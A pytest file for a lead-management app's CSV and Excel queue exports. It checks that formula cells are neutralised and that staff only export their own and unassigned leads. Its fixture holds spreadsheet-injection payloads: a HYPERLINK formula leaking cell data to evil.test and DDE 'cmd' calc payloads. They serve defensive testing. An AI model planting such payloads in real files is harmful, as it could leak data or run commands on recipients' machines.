"""Queue exports on SQLite and PostgreSQL: formula cells neutralised in CSV and Excel, what each role gets."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from core import exports
from core.leads import LeadFilters
from db.models import LeadStatus, Role
from db.session import session_scope
from tests.support.factories import make_lead, make_user

pytestmark = pytest.mark.usefixtures("fast_bcrypt")

DANGEROUS = {
    "full_name": "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Open\")",
    "company": "+cmd|' /C calc'!A0",
    "budget": "-2+3+cmd|' /C calc'!A0",
    "project_type": "@SUM(1+9)*cmd|' /C calc'!A0",
}
CUSTOM = {"tabbed": "\t=1+1", "carriage": "\r=1+1", "fine": "plain text", "visits": -5}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(data: bytes) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(header, row, strict=True)) for row in rows]


def export(engine: Engine, fmt: str, *, role: str = "manager", user_id: str = "nobody",
           filters: LeadFilters | None = None) -> bytes:
    with session_scope(engine) as session:
        return exports.export_queue(session=session, filters=filters or LeadFilters(), user_id=user_id, role=role,
                                    fmt=fmt)  # type: ignore[arg-type]


@pytest.fixture
def dangerous_lead(engine: Engine) -> str:
    with session_scope(engine) as session:
        lead = make_lead(session, **DANGEROUS)
        lead.custom_attributes = dict(CUSTOM)
        return lead.id


def test_formula_cells_are_neutralised_in_the_csv(engine, dangerous_lead):
    [row] = csv_rows(export(engine, "csv"))

    for field, value in DANGEROUS.items():
        assert row[field] == "'" + value, field
    assert row["tabbed"] == "'\t=1+1" and row["carriage"] == "'\r=1+1"
    assert row["phone"] == "'+13125550148"  # a phone in international form starts with +: neutralised too
    assert row["fine"] == "plain text" and row["visits"] == "-5"  # numbers are numbers, never changed
    assert row["leadops_id"] == dangerous_lead and row["email"] == "dana.whitfield@harborlinefreight.example"


def test_formula_cells_are_neutralised_in_the_excel_file_and_stored_as_text(engine, dangerous_lead):
    data = export(engine, "xlsx")

    [row] = xlsx_rows(data)
    for field, value in DANGEROUS.items():
        assert row[field] == "'" + value, field
    # XML reads a bare carriage return back as a line feed: what matters is the ' in front.
    assert row["tabbed"] == "'\t=1+1" and row["carriage"] == "'\n=1+1"
    assert row["visits"] == -5 and row["score"] >= 0
    cells = [cell for line in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no cell is a formula


def test_the_pure_functions_neutralise_every_dangerous_start_and_only_those():
    rows = [{"cell": start + "x"} for start in ("=", "+", "-", "@", "\t", "\r")] + [{"cell": "x=1"}, {"cell": 7}]

    assert [r["cell"] for r in csv_rows(exports.export_csv(rows))] == [
        "'=x", "'+x", "'-x", "'@x", "'\tx", "'\rx", "x=1", "7"]
    assert [r["cell"] for r in xlsx_rows(exports.export_xlsx(rows))] == [
        "'=x", "'+x", "'-x", "'@x", "'\tx", "'\nx", "x=1", 7]  # XML reads a bare CR back as LF


def test_staff_export_only_their_own_and_unassigned_leads(engine):
    with session_scope(engine) as session:
        sam = make_user(session, "sam", Role.STAFF)
        sue = make_user(session, "sue", Role.STAFF)
        make_lead(session, full_name="Sam's lead", email="a@sam.example", assignee=sam)
        make_lead(session, full_name="Sue's lead", email="b@sue.example", assignee=sue)
        make_lead(session, full_name="Nobody's lead", email="c@none.example")
        sam_id = sam.id

    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        staff = {row["full_name"] for row in read(export(engine, fmt, role="staff", user_id=sam_id))}
        manager = {row["full_name"] for row in read(export(engine, fmt, role="manager", user_id=sam_id))}
        assert staff == {"Sam's lead", "Nobody's lead"}, fmt
        assert manager == {"Sam's lead", "Sue's lead", "Nobody's lead"}, fmt


def test_exports_follow_the_queue_filters_and_stream_every_page(engine):
    with session_scope(engine) as session:
        for n in range(23):
            lead = make_lead(session, email=f"lead{n}@paged.example", full_name=f"Lead {n}")
            lead.status = LeadStatus.WON if n % 2 else LeadStatus.NEW

    with session_scope(engine) as session:
        every = list(exports.lead_rows(session=session, filters=LeadFilters(), user_id="x", role="admin",
                                       page_size=5))
        won = list(exports.lead_rows(session=session, filters=LeadFilters(status=LeadStatus.WON), user_id="x",
                                     role="admin", page_size=5))

    assert len(every) == 23 and len({row["leadops_id"] for row in every}) == 23
    assert len(won) == 11 and {row["status"] for row in won} == {"WON"}
